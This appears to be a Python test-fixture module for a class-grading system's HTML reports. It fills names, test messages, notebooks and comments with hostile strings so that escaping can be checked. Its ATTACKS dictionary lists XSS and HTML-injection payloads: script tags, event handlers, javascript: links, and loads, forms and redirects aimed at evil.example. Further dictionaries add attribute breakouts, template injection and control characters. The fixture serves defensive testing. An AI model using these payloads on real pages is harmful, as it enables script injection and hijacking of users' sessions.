"""A class whose texts attack whoever looks at them: in names, messages, code, output, notebooks and answers."""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any, Final

from made_grades import IMAGES, failed
from stored import begun

from browser.made_pages import (
    DUE,
    FRAME,
    code_cell,
    course_of,
    hand_in,
    judged,
    notebook,
    pieces,
    printed,
    raised,
    shown,
    text_cell,
)
from grader.gradebook import Gradebook
from grader.gradebook.decisions import Bonus, Comment, Release
from grader.judge.grade import Answer, Outcome
from grader.people import Student
from grader.questions import Criterion
from grader.report.of_class import write_class
from grader.report.of_submissions import write_submissions
from grader.store import open_store

EVIL: Final = "https://evil.example"
# Each does what its name says where it becomes part of a page, and what ran says so. Most fit into a name of 80
# characters.
ATTACKS: Final = {
    "a script": "<script>ran='a script'</script>",
    "a dialog": "<script>alert('hello')</script>",
    "a script from elsewhere": f"<script src={EVIL}/a.js></script>",
    "a handler": "<img src=x onerror=ran='a_handler'>",
    "a picture": f"<img src={EVIL}/a.png>",
    "a picture that runs": "<svg onload=ran='svg'><script>ran='in svg'</script></svg>",
    "a style": f"<style>main{{background:url({EVIL}/css)}} *{{position:fixed}}</style>",
    "an import": f"<style>@import '{EVIL}/a.css';</style>",
    "a stylesheet": f"<link rel=stylesheet href={EVIL}/b.css>",
    "an attribute of style": f"<p style=\"background:url('{EVIL}/c')\">styled</p>",
    "out of its block": "<b style='position:absolute;top:-9px;left:2000px'>outside</b>",
    "over everything": "<b style='position:fixed;inset:0;background:red'>over it</b>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "a base": f"<base href={EVIL}/>",
    "a frame": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "an object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "a form": f"<form action={EVIL}><input name=q><button>Go on</button></form>",
    "a film": f"<video src={EVIL}/v autoplay></video>",
    "a toggle": "<details open ontoggle=ran='toggle'><summary>x</summary></details>",
    "a focus": "<input autofocus onfocus=ran='focus'>",
    "another title": "</title></h1><title>Another page</title>",
    "what ends everything": "</title></style></script></pre></code></svg></table>--><script>ran='end'</script>",
    "an end of CDATA": "]]><script>ran='cdata'</script><!--",
    "a link": "<a href=\"javascript:ran='link'\">a link</a>",
    "an id": "<b id=find></b><form id=students></form>",
    "a policy": "<meta http-equiv=Content-Security-Policy content='style-src none'>",
    "the other direction": "\u202edraw\u202c \u2066isolated\u2069 \u200fright \ufeff\u00adsoft",
    "control characters": "a\x00b\x07c\x08\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f\x9b31m\x85",
}
# These are harmless where they become part of a page: what they would attack is another step.
OTHERS: Final = {
    "entities": "&lt;script&gt;ran='entity'&lt;/script&gt; &#60;img src=x&#62; &amp;amp; &quot;",
    "out of an attribute": "\" onmouseover=\"ran='over'\" autofocus onfocus='ran=1' x=\"",
    "a template": "{{ 7 * 7 }} {% include 'page.html' %} ${7*7} #{7*7}",
    "markdown": "[a link](javascript:ran='md') ![](https://evil.example/md.png) <https://evil.example>",
    "a huge word": "W" * 3000,
    "a huge word with a link": "W" * 200 + EVIL + "/" + "w" * 3000,
    "hidden behind numbers": "&#x202e;drawer&#8238; &rlm; &shy; &#0;&#27;" + "o" + "&#x301;" * 50,
    "marks in a pile": "Z" + "\u0301\u0489\u20dd" * 200,
    "wide letters": "\ufdfd\U0001242b" * 40,
    "two lines": "one\r\ntwo\n\n\n\tthree\u2028four\rfive",
    "not in a font": "\U0010ffff\ue000\ufffe",
}
TEXTS: Final = (*ATTACKS.values(), *OTHERS.values())


def tame(texts: Sequence[str]) -> tuple[str, ...]:
    """Words in place of each text, with its line breaks: what a page is made of must be the same."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    found = []
    for place, text in enumerate(texts):
        words = re.sub(r"[^\r\n]", "x", text)
        found.append(letters[place // 26] + letters[place % 26] + words[2:])
    return tuple(found)


def outcomes_of(texts: Sequence[str]) -> tuple[Outcome, ...]:
    """A failed test for each text, which is in all that a test has; the first has pictures and huge texts as well."""
    everything = "\n".join(texts)
    huge = "W" * 500_000 + everything * 100
    evidence: dict[str, Any] = {
        "history": {text: [1.0, 0.5] for text in texts[:6]},
        "confusion": {"labels": texts[:3], "matrix": [[1, 2, 0], [0, 3, 4], [5, 6, 7]]},
        "gradient": {"parameters": {text: {"shape": text, "errors": [[1.0]]} for text in texts[:3]}},
        "shape": {"name": texts[0], "got": [5, 4], "expected": [4]},
        "differences": {"name": texts[1], "wrong": 9, "of": 12,
                        "entries": [{"at": [text], "got": text, "expected": text} for text in texts]},
        "boundary": {"x": [0, 1], "y": [0, 1], "grid": [[0, 1], [1, 0]], "labels": texts[:2]},
        "images": {"items": [{**IMAGES["items"][0], "label": text, "got": text} for text in texts]},
        "suspicion": {"why": everything},
    }  # fmt: skip
    return (
        failed("test_all", title="All of it", part="All", message=huge, hint=everything, evidence=evidence,
               detail=f"Traceback:\n{everything}", output=huge, seed=texts[0]),
        *(
            failed(f"test_{place}", title=text, part=text if place < 12 else "All", message=text, hint=text,
                   follows_from=text if place % 7 == 3 else None, detail=text, output=text, seed=text)
            for place, text in enumerate(texts)
        ),
    )  # fmt: skip


def notebook_of(texts: Sequence[str], *, outputs: bool = True) -> bytes:
    """Without `outputs`, it has the same code and shows nothing."""
    everything = "\n".join(texts)
    cells = [code_cell(f"x = '''{text}'''", shown(html=text, plain=text)) for text in texts]
    for cell, text in zip(cells, texts, strict=True):
        cell["metadata"] = {"tags": [text], text: text}
    found = (
        *(text_cell(f"# {text}\n\n{text}\n\n| {text} |\n|---|\n| {text} |\n\n```\n{text}\n```") for text in texts),
        *cells,
        code_cell(everything, printed(everything), printed("W" * 1_000_000, "stderr"), raised(everything, *texts)),
        code_cell("", shown(svg="<svg onload=ran='svg output'/>"), shown(js="ran = 'js output'"), shown(png='" x')),
        code_cell(
            "", shown(latex="$\\href{javascript:ran='latex'}{x}$"), shown(markdown=everything), shown(html=FRAME)
        ),
        code_cell("", shown(html="<blockquote>" * 40 + "deep"), shown(html="<div class='tall vh card'>dressed</div>")),
    )
    bare = [{**cell, "outputs": []} for cell in found if cell["cell_type"] == "code"]
    return notebook(*(found if outputs else bare))


def source_of(texts: Sequence[str]) -> bytes:
    lines = [f"x{place} = '''{text}'''  # {text}" for place, text in enumerate(texts)]
    return "\n".join((*lines, "y = " + "W" * 5000, "# " + "w " * 3000)).encode()


def written(folder: Path, texts: Sequence[str], *, outputs: bool = True) -> dict[str, Path]:
    """A page of each kind with `texts` wherever somebody other than us wrote something; `outputs`: those of the
    notebook, too."""
    everything, tests = "\n".join(texts), outcomes_of(texts)
    answers = (
        Answer(number=1, title=texts[0], max_points=5, status="awaiting grading", text=everything,
               rubric=(Criterion(5, texts[1]),), model_answer=everything),
    )  # fmt: skip
    as_notebook = notebook_of(texts, outputs=outputs)
    told: dict[str, Any] = {
        "answers": answers, "problems": tuple(texts), "assignment_title": texts[0], "isolation": texts[3],
        "started": "2026-11-21T21:30:50+00:00",
    }  # fmt: skip
    course = course_of(folder / "course")
    store = open_store(course.course)
    try:
        run = begun(store)
        people = [Student(f"{n:02}{text}", text, section=text) for n, text in enumerate(texts)]
        store.note_people(people, roster_of=run)
        for n, kind in enumerate((as_notebook, b"")):
            for attempt in (1, 2):
                source = pieces(as_notebook) if kind else source_of(texts[: -attempt or None])
                found = judged(f"{n}{attempt}{texts[n]}"[:64], tests, source, kind, **told)
                hand_in(store, run, found, [people[n].login], DUE + timedelta(hours=attempt))
        book = Gradebook(course, store)
        book.decide(Release(True), why=everything)
        for one in people[:2]:
            book.decide(Comment(everything), why=everything, who=texts[0], login=one.login)
            book.decide(Bonus(1), why=everything, who=texts[1], login=one.login)
        index = write_class(book, folder / "class").index
    finally:
        store.close()
    some = [
        judged(f"e{n}", tests[1:4], source_of(texts), submission=text, problems=(text,)) for n, text in enumerate(texts)
    ]
    of_some = write_submissions(course, some, folder / "submissions")
    found = {"class": index, "submissions": of_some}
    for reader in ("students", "instructor"):
        own = sorted((index.parent / reader).glob("*.html"))
        assert len(own) == 3, own
        found |= zip((f"{reader}, notebook", f"{reader}, its page", f"{reader}, script"), own, strict=True)
    return found
